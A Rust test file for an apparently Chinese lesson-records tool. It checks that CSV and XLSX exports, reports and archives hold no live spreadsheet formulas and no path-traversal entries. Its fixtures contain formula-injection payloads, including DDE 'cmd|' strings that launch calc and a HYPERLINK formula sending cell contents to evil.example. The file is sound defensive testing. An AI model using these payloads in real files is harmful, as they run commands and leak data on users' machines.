//! Tables that leave the program are opened in spreadsheets, which reckon what looks
//! like a formula; what they hold was written by many hands.

use std::io::Read as _;

use crate::Result;
use crate::command::Root;

const FORMULAS: [&str; 7] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
];
const YEAR: &str = "content/units/danwei/2025";

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// A year in which every text is a formula.
fn library() -> Root {
    let row = |number: usize, formula: &str| {
        let cell = quoted(formula);
        format!("{},{cell},{cell},2025-03-{:02},20,18,{cell},{cell}\n", number + 1, number + 3)
    };
    let rows: String = FORMULAS.iter().enumerate().map(|(at, formula)| row(at, formula)).collect();
    let ballots = |(at, formula): (usize, &&str)| format!("2025-03-{:02},{},18,16,1,1,0\n", at + 3, quoted(formula));
    let ballots: String = FORMULAS.iter().enumerate().map(ballots).collect();
    let lesson = format!("---\n标题: {0:?}\n小教员: {0:?}\n摘要: {0:?}\n---\n课\n", FORMULAS[0]);
    let award = format!("优秀教员:\n  - 姓名: {:?}\n    单位: danwei\n", FORMULAS[0]);
    Root::new(&[
        (&format!("{YEAR}/plan.csv"), &format!("月份,课题,小教员,完成日期,应到,实到,地点,备注\n{rows}")),
        (&format!("{YEAR}/evaluations.csv"), &format!("完成日期,课题,有效票,很满意,满意,基本满意,不满意\n{ballots}")),
        (&format!("{YEAR}/lessons/a.md"), &lesson),
        ("content/awards/2025.yaml", &award),
        ("content/人员名册.csv", &format!("姓名,单位,出生年月,岗位\n{0},danwei,1990-01,{0}\n", quoted(FORMULAS[0]))),
    ])
}

/// Fails when a cell of a table begins as a formula does.
fn reckons_nothing(name: &str, bytes: &[u8]) -> Result<usize> {
    let text = std::str::from_utf8(bytes)?.trim_start_matches('\u{feff}');
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    let mut guarded = 0;
    for record in reader.records() {
        for cell in record?.iter() {
            let number = cell.strip_prefix('-').is_some_and(|rest| rest.chars().all(|c| c.is_ascii_digit()));
            let starts = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
            if starts && !number && cell != "-" {
                return Err(format!("{name}: {cell}").into());
            }
            guarded += usize::from(cell.starts_with('\''));
        }
    }
    Ok(guarded)
}

#[test]
fn no_export_holds_a_formula() -> Result {
    let root = library();
    for what in ["plan", "sessions", "awards", "lessons"] {
        let csv = root.run(&["export", what, "-q"]).expect(0).out;
        let guarded = reckons_nothing(what, csv.as_bytes())?;
        assert!(guarded > 0 || what == "awards", "{what}: {csv}");
        let file = format!("{what}.xlsx");
        root.run(&["export", what, "--format", "xlsx", "-o", &file]).expect(0);
        let mut book = zip::ZipArchive::new(std::fs::File::open(root.path(&file))?)?;
        for at in 0..book.len() {
            let mut part = book.by_index(at)?;
            let mut text = String::new();
            part.read_to_string(&mut text)?;
            assert!(!text.contains("<f>") && !text.contains("<hyperlink"), "{what}: {text}");
        }
    }
    Ok(())
}

#[test]
fn no_report_and_no_archive_holds_a_formula() -> Result {
    let root = library();
    root.run(&["report"]).expect(0);
    let mut guarded = 0;
    for (path, bytes) in root.tree("reports").into_iter().filter(|(path, _)| path.ends_with(".csv")) {
        guarded += reckons_nothing(&path, &bytes)?;
    }
    assert!(guarded > 0);
    root.run(&["archive", "danwei", "2025", "-o", "a.zip"]).expect(0);
    let mut archive = zip::ZipArchive::new(std::fs::File::open(root.path("a.zip"))?)?;
    for at in 0..archive.len() {
        let mut part = archive.by_index(at)?;
        let name = part.name()?.to_string();
        assert!(!name.starts_with('/') && !name.split(['/', '\\']).any(|step| step == ".."), "{name}");
        let mut bytes = Vec::new();
        part.read_to_end(&mut bytes)?;
        // The tables of the year are packed as the clerk keeps them.
        if name.ends_with(".csv") && !bytes.is_empty() && !library().tree(YEAR).values().any(|kept| *kept == bytes) {
            reckons_nothing(&name, &bytes)?;
        }
    }
    Ok(())
}

#[test]
fn what_is_collected_becomes_no_formula_of_the_clerk() -> Result {
    let root = library();
    let rows: String = FORMULAS
        .iter()
        .map(|formula| format!("danwei,2025,张三,{0},,{0},2025-01-05 09:00:00\n", quoted(formula)))
        .collect();
    let head = "单位,年度,姓名,课题,排序,其他想学,填写时间\n";
    root.write(&format!("{YEAR}/inbox/选学_danwei_张三_2025.csv"), format!("\u{feff}{head}{rows}").as_bytes());
    root.run(&["collect", "danwei", "2025", "--write"]).expect(0);
    let made = root.tree(YEAR);
    let choices = made.iter().find(|(path, _)| path.contains("选学") && !path.contains("inbox")).ok_or("no table")?;
    assert!(reckons_nothing(choices.0, choices.1)? > 0, "{}", String::from_utf8_lossy(choices.1));
    Ok(())
}
